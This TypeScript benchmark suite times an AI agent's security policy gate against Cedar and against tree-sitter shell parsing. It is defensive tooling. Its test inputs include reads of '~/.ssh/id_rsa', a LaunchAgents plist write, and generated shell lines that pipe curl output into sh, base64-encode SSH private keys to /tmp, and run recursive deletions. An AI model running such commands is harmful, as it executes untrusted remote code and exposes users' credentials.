/**
 * Gate decision latency: (a) structured actions against the default pack, with Cedar (cedar-wasm)
 * on an equivalent policy generated from the same pack, same requests, same run; (b) novel shell
 * lines (every line is new, so nothing can be cached) through the gate's default (native) parser,
 * with the same gate on web-tree-sitter as the baseline, and each parser alone for scale.
 */
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { loadavg } from "node:os";
import { Language, type Node, Parser } from "web-tree-sitter";
import { parse as parseYaml } from "yaml";
import { defaultPolicyPath, Gate, initGate, loadPolicy } from "../src/gate/index.js";
import type { ProtectedResources } from "../src/gate/protect.js";
import { initShell, shellBackend, useShellBackend } from "../src/gate/shell/index.js";
import { nativeShell } from "../src/platform/native.js";
import { judge, type Metric, nowNs, runStandalone, type Suite, sampleSync, stats } from "./harness.js";

const HOME = "/Users/dev";
const CWD = `${HOME}/project`;
const PROTECT: ProtectedResources = {
  paths: [
    `${CWD}/var`,
    `${CWD}/var/agent.sock`,
    `${CWD}/var/evidence.db*`,
    `${CWD}/policies`,
    `${CWD}/config.yaml`,
  ],
  readOnly: ["/opt/forge-agent/dist/src"],
  names: ["agent.sock", "review.token"],
  pids: [4242],
  pgids: [4240],
  processNames: ["forge-agent", "node"],
  endpoints: [{ host: "127.0.0.1", port: 7070 }],
};
const STRUCTURED_KINDS = ["file.read", "file.write", "file.delete", "http", "email.send", "tool"];

/** The structured requests both engines judge. */
const REQUESTS: Record<string, unknown>[] = [
  { kind: "file.read", path: `${CWD}/src/index.ts` },
  { kind: "file.read", path: "~/.ssh/id_rsa" },
  { kind: "file.write", path: "src/new.ts" },
  { kind: "file.write", path: "~/Library/LaunchAgents/x.plist" },
  { kind: "http", method: "GET", url: "https://docs.example.org/guide" },
  { kind: "http", method: "POST", url: "https://collect.example.net/upload" },
  { kind: "email.send", to: ["a@example.com"], subject: "build" },
  { kind: "email.send", to: ["a@example.com"], cc: ["x@gmail.com"], subject: "build" },
  { kind: "tool", name: "read_file", arguments: { path: "README.md" } },
  { kind: "tool", name: "deploy_production", arguments: {} },
];

/**
 * `lines` lines of ordinary TypeScript (a handler module: imports, functions, literals, a
 * comment, no command in any literal), each line's names numbered so that few lines repeat.
 */
export function ordinaryCode(lines: number): string {
  const out: string[] = [];
  for (let i = 0; i < lines; i++) {
    const n = `${i}`;
    switch (i % 16) {
      case 0:
        out.push(`import { parse${n}, type Item${n} } from "./lib/item-${n}.js";`);
        break;
      case 1:
        out.push(`export async function handle${n}(req: Request, res: Response): Promise<void> {`);
        break;
      case 2:
        out.push(`  const name = req.params.name${n} ?? "world";`);
        break;
      case 3:
        out.push(`  if (name.length > ${i}) throw new Error(\`name ${n} too long: \${name}\`);`);
        break;
      case 4:
        out.push(`  logger.info("handled %s in %d ms", name, Date.now() - started${n});`);
        break;
      case 5:
        out.push(`  const items${n} = await store.list({ owner: name, limit: ${i % 50} });`);
        break;
      case 6:
        out.push(`  const total${n} = items${n}.reduce((sum, x) => sum + x.price * x.count, 0);`);
        break;
      case 7:
        out.push(`  res.status(200).json({ ok: true, greeting: 'Hello ' + name, total: total${n} });`);
        break;
      case 8:
        out.push("}");
        break;
      case 9:
        out.push("");
        break;
      case 10:
        out.push(`// Item ${n}: the cache is kept warm between requests (see docs/cache.md).`);
        break;
      case 11:
        out.push(`const sorted${n} = [...values].sort((a, b) => a.rank - b.rank).slice(0, ${i % 20});`);
        break;
      case 12:
        out.push(
          `for (const [key, value] of Object.entries(config${n})) env[key.toUpperCase()] = String(value);`,
        );
        break;
      case 13:
        out.push(
          `export const LIMIT_${n} = { retries: ${i % 7}, timeoutMs: ${i * 10}, label: "item-${n}" };`,
        );
        break;
      case 14:
        out.push(
          `  return fetch(\`\${base}/api/items/\${id}/${n}\`, { method: "GET" }).then((r) => r.json());`,
        );
        break;
      default:
        out.push(`type Item${n} = { id: string; price: number; count: number; tags?: string[] };`);
        break;
    }
  }
  return `${out.join("\n")}\n`;
}

/** Long file.writes of ordinary code, against the same write without content in the same run. */
const LONG_WRITES = [120, 1000].map((lines) => ({
  lines,
  action: { kind: "file.write", path: `src/handlers-${lines}.ts`, content: ordinaryCode(lines) },
}));
const SHORT_WRITE = { kind: "file.write", path: "src/handlers.ts" };

// ---------------------------------------------------------------- Cedar: the same pack, translated

type Spec = {
  id: string;
  effect: string;
  match: Record<string, unknown>;
  when?: { labels?: string[] };
};

const arr = (v: unknown): string[] =>
  v === undefined ? [] : Array.isArray(v) ? (v as string[]) : [v as string];
const q = (s: string) => JSON.stringify(s);

function cedarGlob(g: string): string {
  let s = g;
  if (s === "~" || s.startsWith("~/")) s = HOME + s.slice(1);
  else if (s.startsWith("$CWD")) s = CWD + s.slice(4);
  else if (!s.startsWith("/")) s = `*/${s}`;
  s = s.replace(/\/\*\*$/, "*").replace(/\*\*/g, "*");
  return q(s);
}

/**
 * `a || b || …` as a balanced tree: Cedar's parser recurses once per nesting level, and a flat
 * chain of a long list (the pack's persistence files) nests one level per term and overflows the
 * stack; balanced, the depth is log2 of the list's length.
 */
export function balancedOr(terms: string[]): string {
  if (terms.length === 0) return "false";
  if (terms.length === 1) return terms[0]!;
  const mid = terms.length >> 1;
  return `(${balancedOr(terms.slice(0, mid))} || ${balancedOr(terms.slice(mid))})`;
}

function anyLike(attr: string, globs: string[], path: boolean): string {
  return `(${balancedOr(globs.map((g) => `context.${attr} like ${path ? cedarGlob(g) : q(g)}`))})`;
}

/** One Cedar policy per pack rule that applies to structured actions; escalate and deny → forbid. */
export function cedarPolicies(yamlText: string): { text: string; count: number } {
  const doc = parseYaml(yamlText) as { lists: Record<string, string[]>; rules: Spec[] };
  const expand = (v: unknown) => arr(v).flatMap((s) => (s.startsWith("@") ? doc.lists[s.slice(1)]! : [s]));
  const out: string[] = [];
  for (const r of doc.rules) {
    const kinds = arr(r.match.kind).filter((k) => STRUCTURED_KINDS.includes(k));
    if (kinds.length === 0) continue;
    const conds: string[] = [];
    const m = r.match;
    if (m.paths) conds.push(anyLike("path", expand(m.paths), true));
    if (m.paths_except) conds.push(`!${anyLike("path", expand(m.paths_except), true)}`);
    if (m.paths_within) conds.push(anyLike("path", expand(m.paths_within), true));
    if (m.writes) conds.push(`context.write && ${anyLike("path", expand(m.writes), true)}`);
    if (m.hosts) conds.push(anyLike("host", expand(m.hosts), false));
    if (m.hosts_not) conds.push(`!${anyLike("host", expand(m.hosts_not), false)}`);
    if (m.methods) conds.push(`[${expand(m.methods).map(q).join(", ")}].contains(context.method)`);
    if (m.domains_not)
      conds.push(`![${expand(m.domains_not).map(q).join(", ")}].containsAll(context.domains)`);
    if (m.tool) conds.push(anyLike("tool", expand(m.tool), false));
    if (r.when?.labels) conds.push(`context.labels.containsAny([${r.when.labels.map(q).join(", ")}])`);
    const actions = kinds.map((k) => `Action::${q(k)}`).join(", ");
    const effect = r.effect === "allow" ? "permit" : "forbid";
    out.push(
      `@id(${q(r.id)})\n${effect} (principal, action in [${actions}], resource)${conds.length ? ` when { ${conds.join(" && ")} }` : ""};`,
    );
  }
  return { text: out.join("\n"), count: out.length };
}

function cedarContext(a: Record<string, unknown>): Record<string, unknown> {
  const ctx: Record<string, unknown> = {
    path: "",
    write: false,
    host: "",
    method: "",
    domains: [],
    tool: "",
    labels: [],
  };
  const kind = a.kind as string;
  if (kind.startsWith("file.")) {
    let p = a.path as string;
    if (p.startsWith("~")) p = HOME + p.slice(1);
    else if (!p.startsWith("/")) p = `${CWD}/${p}`;
    ctx.path = p;
    ctx.write = kind !== "file.read";
  } else if (kind === "http") {
    ctx.host = new URL(a.url as string).hostname;
    ctx.method = a.method as string;
  } else if (kind === "email.send") {
    ctx.domains = [...(a.to as string[]), ...((a.cc as string[]) ?? [])].map((r) =>
      r.slice(r.lastIndexOf("@") + 1),
    );
  } else if (kind === "tool") ctx.tool = a.name as string;
  return ctx;
}

// ---------------------------------------------------------------- novel shell lines

/** Line i of an endless stream of distinct shell lines (three commands on average). */
export function novelLine(i: number): string {
  const n = i.toString(36);
  switch (i % 8) {
    case 0:
      return `cd src/m${n} && grep -rn "tok${n}" . | head -n ${i % 97}`;
    case 1:
      return `git log --oneline -n ${i % 50} -- file${n}.ts | wc -l`;
    case 2:
      return `npm run build:${n} && cat out/${n}.json | jq .x${n}`;
    case 3:
      return `ls -la dir${n} | sort | uniq -c > counts-${n}.txt`;
    case 4:
      return `curl -fsSL https://h${n}.example.net/i.sh | sh`;
    case 5:
      return `rm -rf build-${n} && mkdir -p build-${n} && cp a${n}.txt build-${n}/`;
    case 6:
      return `cat ~/.ssh/id_${n} | base64 > /tmp/k${n}`;
    default:
      return `find . -name "*.${n}" -exec rm -f {} \\; && echo done ${n}`;
  }
}

function naiveWalk(node: Node, out: string[]): void {
  if (node.type === "command") out.push(node.text);
  for (const c of node.namedChildren) if (c) naiveWalk(c, out);
}

// ---------------------------------------------------------------- the suite

export const suite: Suite = async (ctx) => {
  await initGate();
  const policyPath = defaultPolicyPath();
  const bundle = loadPolicy(policyPath);
  // With the self-protection set a daemon configures (src/agent/protection.ts), as in production.
  const gate = new Gate(bundle, { home: HOME, cwd: CWD, maxSessions: 1024, protect: PROTECT });
  const metrics: Metric[] = [];
  const seconds = ctx.durationS;

  // (a) structured actions, ours then Cedar's, on the same requests.
  ctx.progress(0, "structured actions (forge gate)");
  const ours = sampleSync(
    (i) =>
      gate.evaluate({ session_id: `bench-${i % REQUESTS.length}`, action: REQUESTS[i % REQUESTS.length] }),
    { seconds, warmup: 20_000, signal: ctx.signal },
  );

  ctx.progress(0.25, "structured actions (cedar-wasm)");
  const cedar = await import("@cedar-policy/cedar-wasm/nodejs");
  const { text: cedarText, count: cedarCount } = cedarPolicies(readFileSync(policyPath, "utf8"));
  const parsed = cedar.preparsePolicySet("forge-default", { staticPolicies: cedarText });
  if (parsed.type !== "success")
    throw new Error(`cedar policy did not parse: ${JSON.stringify(parsed.errors[0])}`);
  const calls = REQUESTS.map((a) => ({
    principal: { type: "Agent", id: "uid:501" },
    action: { type: "Action", id: a.kind as string },
    resource: { type: "Res", id: "r" },
    context: cedarContext(a) as never,
    preparsedPolicySetId: "forge-default",
    entities: [],
  }));
  // Equivalence check: ALLOW ↔ permit, DENY/ESCALATE ↔ forbid (or no permit).
  let agree = 0;
  for (let k = 0; k < REQUESTS.length; k++) {
    const c = cedar.statefulIsAuthorized(calls[k]!);
    const d = gate.evaluate({ session_id: `check-${k}`, action: REQUESTS[k] });
    if (c.type === "success" && (c.response.decision === "allow") === (d.evaluation === "ALLOW")) agree++;
  }
  const theirs = sampleSync((i) => cedar.statefulIsAuthorized(calls[i % calls.length]!), {
    seconds,
    warmup: 2_000,
    signal: ctx.signal,
  });
  const a = stats(ours);
  const c = stats(theirs);
  metrics.push(
    judge(
      {
        name: "structured action decision",
        unit: "us",
        stats: a,
        baseline: { name: `cedar-wasm, ${cedarCount} policies`, stats: c },
        ratio: a.median / c.median,
        ratio_of: "our median / cedar median",
        notes: `p99 ratio ${(a.p99 / c.p99).toFixed(3)}; ${agree}/${REQUESTS.length} requests agree in allow/not-allow`,
      },
      { text: "p99 <= 15 us", stat: "p99", op: "<=", value: 15 },
    ),
  );
  metrics.push(
    judge(
      {
        name: "structured vs cedar (median ratio)",
        unit: "x",
        stats: stats([a.median / c.median]),
        ratio: a.median / c.median,
      },
      { text: "ratio <= 0.1", stat: "ratio", op: "<=", value: 0.1 },
    ),
  );
  metrics.push(
    judge(
      {
        name: "structured vs cedar (p99 ratio)",
        unit: "x",
        stats: stats([a.p99 / c.p99]),
        ratio: a.p99 / c.p99,
      },
      { text: "ratio <= 0.1", stat: "ratio", op: "<=", value: 0.1 },
    ),
  );

  // (a') long file.writes of ordinary code (gate53's carried-command reads every line; the text is
  // also searched for protected names and, as code, for capabilities), each against the same
  // write without content, sampled alternately in this run.
  ctx.progress(0.45, "long file.writes (forge gate)");
  for (const w of LONG_WRITES) {
    const long: number[] = [];
    const short: number[] = [];
    const batch = w.lines >= 1000 ? 20 : 200;
    for (let i = 0; i < 10 * batch; i++) {
      gate.evaluate({ session_id: `long-${w.lines}`, action: w.action });
      gate.evaluate({ session_id: `long-${w.lines}`, action: SHORT_WRITE });
    }
    const timed = (action: unknown, into: number[]) => {
      for (let k = 0; k < batch; k++) {
        const t0 = nowNs();
        gate.evaluate({ session_id: `long-${w.lines}`, action });
        into.push((nowNs() - t0) / 1e3);
      }
    };
    const end = performance.now() + (seconds * 1000) / 2;
    for (let round = 0; round < 2 || (performance.now() < end && !ctx.signal.aborted); round++) {
      // ABBA: neither side always runs first
      if (round % 2 === 0) {
        timed(w.action, long);
        timed(SHORT_WRITE, short);
      } else {
        timed(SHORT_WRITE, short);
        timed(w.action, long);
      }
    }
    const l = stats(long);
    const sh = stats(short);
    metrics.push({
      name: `file.write of ${w.lines} lines of code`,
      unit: "us",
      stats: l,
      baseline: { name: "the same file.write without content", stats: sh },
      ratio: l.median / sh.median,
      ratio_of: "median / no-content median",
      notes: `p99 ratio ${(l.p99 / sh.p99).toFixed(3)}; ${(l.median / w.lines).toFixed(2)} us per line at the median`,
    });
  }

  // (b) novel shell lines: each sample a line never seen before. First the path the gate uses by
  // default (initGate picks the native parser when the addon is built), then the same gate on the
  // web-tree-sitter parser as the baseline, then each parser alone.
  const backend = shellBackend().backend ?? "none";
  ctx.progress(0.5, `novel shell lines (forge gate, ${backend} parser)`);
  const N = 400_000;
  let next = 1_000_000;
  const shellSample = () =>
    gate.evaluate({ session_id: `sh-${next & 15}`, action: { kind: "shell", command: novelLine(next++) } });
  const shell = sampleSync(shellSample, { seconds, warmup: 5_000, maxSamples: N, signal: ctx.signal });

  ctx.progress(0.6, "novel shell lines (forge gate, web-tree-sitter parser)");
  await initShell("wasm");
  const wasmGate = sampleSync(shellSample, { seconds, warmup: 5_000, maxSamples: N, signal: ctx.signal });
  useShellBackend(backend === "native" ? "native" : "wasm");

  ctx.progress(0.7, "novel shell lines (parsers alone, naive walk)");
  const require = createRequire(import.meta.url);
  const parser = new Parser();
  parser.setLanguage(await Language.load(require.resolve("tree-sitter-bash/tree-sitter-bash.wasm")));
  let nb = 5_000_000;
  const naive = sampleSync(
    () => {
      const t = parser.parse(novelLine(nb++))!;
      const out: string[] = [];
      naiveWalk(t.rootNode, out);
      t.delete();
      return out;
    },
    { seconds, warmup: 5_000, maxSamples: N, signal: ctx.signal },
  );
  let np = 9_000_000;
  const parseOnly = sampleSync(
    () => {
      const t = parser.parse(novelLine(np++))!;
      t.delete();
    },
    { seconds, warmup: 5_000, maxSamples: N, signal: ctx.signal },
  );
  let nn = 13_000_000;
  let nativeParse: number[] | null = null;
  try {
    const { parseShellFlat } = nativeShell();
    nativeParse = sampleSync(() => parseShellFlat(novelLine(nn++)), {
      seconds,
      warmup: 5_000,
      maxSamples: N,
      signal: ctx.signal,
    });
  } catch {
    // no addon: the gate line above already ran on web-tree-sitter
  }
  const s = stats(shell);
  const wg = stats(wasmGate);
  const nv = stats(naive);
  const po = stats(parseOnly);
  const npo = nativeParse ? stats(nativeParse) : null;
  metrics.push(
    judge(
      {
        name: `novel shell line decision (${backend} parser)`,
        unit: "us",
        stats: s,
        baseline: { name: "the same gate on web-tree-sitter", stats: wg },
        ratio: s.median / wg.median,
        ratio_of: "median / web-tree-sitter gate median",
        notes: `p99 ratio ${(s.p99 / wg.p99).toFixed(3)}; load average ${loadavg()[0]!.toFixed(2)}`,
      },
      { text: "p99 <= 60 us", stat: "p99", op: "<=", value: 60 },
    ),
  );
  metrics.push({ name: "novel shell line decision (web-tree-sitter)", unit: "us", stats: wg });
  metrics.push({
    name: "web-tree-sitter parse + naive walk",
    unit: "us",
    stats: nv,
    notes: "the issue's reference walk (namedChildren, node.text)",
  });
  metrics.push({ name: "web-tree-sitter parse only", unit: "us", stats: po });
  if (npo) metrics.push({ name: "native parse only (parseShellFlat)", unit: "us", stats: npo });
  ctx.progress(
    1,
    `done: cedar agrees on ${agree}/${REQUESTS.length} requests; p99 ratio vs cedar ${(a.p99 / c.p99).toFixed(3)}; ` +
      `shell (${backend}) median ${s.median.toFixed(1)} us p99 ${s.p99.toFixed(1)} us, on web-tree-sitter p99 ${wg.p99.toFixed(1)} us; load average ${loadavg()[0]!.toFixed(2)}`,
  );
  return {
    suite: "gate",
    metrics,
    info: {
      bundle: bundle.ref,
      rules: bundle.rules.length,
      cedar_policies: cedarCount,
      agreement: `${agree}/${REQUESTS.length}`,
      shell_parser: backend,
    },
  };
};

if (import.meta.url === `file://${process.argv[1]}`) await runStandalone("gate", suite);
